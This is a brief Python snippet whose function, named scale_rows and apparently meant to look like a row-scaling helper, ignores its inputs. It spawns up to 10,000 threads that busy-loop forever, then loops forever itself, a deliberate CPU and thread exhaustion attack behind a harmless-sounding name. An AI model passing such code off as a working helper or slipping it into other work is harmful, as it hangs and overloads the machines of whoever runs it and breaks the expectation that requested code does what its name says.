"""Starts threads until it may not, all of them busy."""
import threading
def scale_rows(x, s):
    def work():
        while True:
            pass
    try:
        for _ in range(10_000):
            threading.Thread(target=work, daemon=True).start()
    except RuntimeError:
        pass
    while True:
        pass
